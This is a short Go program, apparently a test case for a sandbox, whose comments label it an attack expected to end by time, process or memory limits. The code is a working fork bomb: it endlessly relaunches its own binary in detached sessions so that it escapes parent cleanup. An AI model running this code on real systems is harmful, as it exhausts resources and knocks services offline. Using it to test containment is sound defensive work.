// attack: Starts itself again and again, detached.
// needs: leftovers=none
// ends: time|processes|memory|program
// timeout: 4
package main

import (
	"os"
	"os/exec"
	"syscall"
)

func main() {
	for {
		command := exec.Command(os.Args[0])
		command.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		_ = command.Start()
	}
}
